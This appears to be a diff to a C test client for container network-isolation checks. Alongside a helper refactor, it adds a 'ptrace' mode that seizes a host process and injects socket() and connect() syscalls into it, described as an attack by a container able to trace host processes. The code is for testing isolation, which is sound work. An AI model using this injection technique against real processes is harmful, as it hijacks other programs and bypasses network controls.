@@ -10,6 +10,10 @@
  *   ctclient listen tcp ADDR PORT [S]  accept and answer "hello from ADDR:PORT\n" for S seconds
  *   ctclient listen udp ADDR PORT [S]  receive and count datagrams for S seconds
  *   ctclient sleep S                   the container's init when the rootfs has no busybox
+ *   ctclient ptrace PID ADDR PORT      make process PID connect() to ADDR:PORT (IPv4, TCP) by
+ *                                      injecting socket() and connect() through ptrace: the
+ *                                      attack of a container that can trace a host process
+ *                                      (x86_64 only; prints "ok", or STEP ERRNO)
  *
  * ADDR is numeric (IPv4 or IPv6). Exit status: 0 "ok", 1 an errno, 2 usage error.
  */
@@ -21,61 +25,22 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ptrace.h>
 #include <sys/socket.h>
+#include <sys/syscall.h>
+#include <sys/user.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
+#include "probe.h"
+
 #define PROBE_TIMEOUT_S 5
-
-static const char *errno_name(int e)
-{
-	const char *n = strerrorname_np(e);
-	static char buf[16];
-
-	if (n)
-		return n;
-	snprintf(buf, sizeof(buf), "E%d", e);
-	return buf;
-}
 
 static int report(int err)
 {
-	if (err == 0) {
-		puts("ok");
-		return 0;
-	}
-	puts(errno_name(err));
-	return 1;
-}
-
-/* Fills *ss from a numeric address and a port; returns the length or -1. */
-static socklen_t parse_addr(const char *addr, const char *port, struct sockaddr_storage *ss)
-{
-	char *end;
-	unsigned long p;
-
-	errno = 0;
-	p = strtoul(port, &end, 10);
-	if (errno || *end || end == port || p > 65535)
-		return 0;
-	memset(ss, 0, sizeof(*ss));
-	if (strchr(addr, ':')) {
-		struct sockaddr_in6 *s6 = (struct sockaddr_in6 *)ss;
-
-		s6->sin6_family = AF_INET6;
-		s6->sin6_port = htons((unsigned short)p);
-		if (inet_pton(AF_INET6, addr, &s6->sin6_addr) != 1)
-			return 0;
-		return sizeof(*s6);
-	} else {
-		struct sockaddr_in *s4 = (struct sockaddr_in *)ss;
-
-		s4->sin_family = AF_INET;
-		s4->sin_port = htons((unsigned short)p);
-		if (inet_pton(AF_INET, addr, &s4->sin_addr) != 1)
-			return 0;
-		return sizeof(*s4);
-	}
+	puts(err ? errname(err) : "ok");
+	return err ? 1 : 0;
 }
 
 static int probe(const char *kind, const struct sockaddr_storage *ss, socklen_t len)
@@ -88,16 +53,11 @@ static int probe(const char *kind, const struct sockaddr_storage *ss, socklen_t 
 
 	if (fd < 0)
 		return report(errno);
-	if (strcmp(kind, "udp") == 0) {
-		n = sendto(fd, msg, sizeof(msg) - 1, 0, (const struct sockaddr *)ss, len);
-		return report(n < 0 ? errno : 0);
-	}
+	if (!tcp)
+		return report(udp_probe(fd, strcmp(kind, "udp") == 0 ? UDP_SENDTO : UDP_CONNECT, ss,
+					len, msg, NULL));
 	if (connect(fd, (const struct sockaddr *)ss, len) < 0)
 		return report(errno);
-	if (!tcp) {
-		n = send(fd, msg, sizeof(msg) - 1, 0);
-		return report(n < 0 ? errno : 0);
-	}
 	/* A connected TCP probe reads the listener's greeting, if any, for the demo's output. */
 	struct pollfd pfd = { .fd = fd, .events = POLLIN };
 	if (poll(&pfd, 1, 1000) == 1) {
@@ -123,7 +83,7 @@ static int listen_loop(const char *kind, const struct sockaddr_storage *ss, sock
 	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) < 0 ||
 	    bind(fd, (const struct sockaddr *)ss, len) < 0 || (tcp && listen(fd, 16) < 0)) {
 		fprintf(stderr, "ctclient: listen %s %s %s: %s\n", kind, addr, port,
-			errno_name(errno));
+			errname(errno));
 		return 1;
 	}
 	snprintf(greet, sizeof(greet), "hello from %s:%s\n", addr, port);
@@ -140,7 +100,7 @@ static int listen_loop(const char *kind, const struct sockaddr_storage *ss, sock
 			if (c < 0)
 				continue;
 			if (write(c, greet, strlen(greet)) < 0)
-				fprintf(stderr, "ctclient: write: %s\n", errno_name(errno));
+				fprintf(stderr, "ctclient: write: %s\n", errname(errno));
 			close(c);
 		} else if (recv(fd, buf, sizeof(buf), 0) >= 0) {
 			fprintf(stderr, "ctclient: datagram received\n");
@@ -150,11 +110,81 @@ static int listen_loop(const char *kind, const struct sockaddr_storage *ss, sock
 	return 0;
 }
 
+#ifdef __x86_64__
+/* Runs one system call in the stopped tracee, at the syscall instruction just before rip. */
+static long inject(pid_t pid, const struct user_regs_struct *saved, long nr, long a1, long a2,
+		   long a3)
+{
+	struct user_regs_struct r = *saved;
+	int st;
+
+	r.rip = saved->rip - 2;
+	r.rax = nr;
+	r.orig_rax = -1; /* no restart of the interrupted call: run ours */
+	r.rdi = a1;
+	r.rsi = a2;
+	r.rdx = a3;
+	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 ||
+	    waitpid(pid, &st, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
+		return -errno;
+	return (long)r.rax;
+}
+
+static int step_failed(const char *step, int err)
+{
+	printf("%s %s\n", step, errname(err));
+	return 1;
+}
+
+static int ptrace_connect(pid_t pid, const struct sockaddr_in *sin)
+{
+	struct user_regs_struct saved;
+	unsigned long words[2], where;
+	long insn, fd, r;
+	int st;
+
+	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
+		return step_failed("seize", errno);
+	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0)
+		return step_failed("interrupt", errno);
+	if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0)
+		return step_failed("getregs", errno);
+	/* A tracee stopped in a system call sits just after its "syscall" (0f 05). */
+	errno = 0;
+	insn = ptrace(PTRACE_PEEKTEXT, pid, saved.rip - 2, 0);
+	if (errno || (insn & 0xffff) != 0x050f)
+		return step_failed("syscall-insn", errno ? errno : ENOEXEC);
+	/* The address goes on the tracee's stack, below its red zone. */
+	where = (saved.rsp - 1024) & ~15UL;
+	memcpy(words, sin, sizeof(*sin));
+	if (ptrace(PTRACE_POKEDATA, pid, where, words[0]) < 0 ||
+	    ptrace(PTRACE_POKEDATA, pid, where + 8, words[1]) < 0)
+		return step_failed("poke", errno);
+	fd = inject(pid, &saved, SYS_socket, AF_INET, SOCK_STREAM, 0);
+	if (fd < 0)
+		return step_failed("socket", (int)-fd);
+	r = inject(pid, &saved, SYS_connect, fd, (long)where, sizeof(*sin));
+	inject(pid, &saved, SYS_close, fd, 0, 0);
+	if (ptrace(PTRACE_SETREGS, pid, 0, &saved) < 0 || ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
+		return step_failed("detach", errno);
+	return r < 0 ? step_failed("connect", (int)-r) : report(0);
+}
+#else
+static int ptrace_connect(pid_t pid, const struct sockaddr_in *sin)
+{
+	(void)pid;
+	(void)sin;
+	puts("ENOSYS");
+	return 2;
+}
+#endif
+
 static int usage(void)
 {
 	fputs("usage: ctclient tcp|udp|udpc ADDR PORT\n"
 	      "       ctclient listen tcp|udp ADDR PORT [SECONDS]\n"
-	      "       ctclient sleep SECONDS\n",
+	      "       ctclient sleep SECONDS\n"
+	      "       ctclient ptrace PID ADDR PORT\n",
 	      stderr);
 	return 2;
 }
@@ -182,6 +212,14 @@ int main(int argc, char **argv)
 		if (!len || seconds <= 0)
 			return usage();
 		return listen_loop(argv[2], &ss, len, argv[3], argv[4], seconds);
+	}
+	if (argc == 5 && strcmp(argv[1], "ptrace") == 0) {
+		len = parse_addr(argv[3], argv[4], &ss);
+		if (len != sizeof(struct sockaddr_in))
+			return usage();
+		alarm(PROBE_TIMEOUT_S);
+		return ptrace_connect((pid_t)strtol(argv[2], NULL, 10),
+				      (const struct sockaddr_in *)&ss);
 	}
 	if (argc != 4 ||
 	    (strcmp(argv[1], "tcp") && strcmp(argv[1], "udp") && strcmp(argv[1], "udpc")))
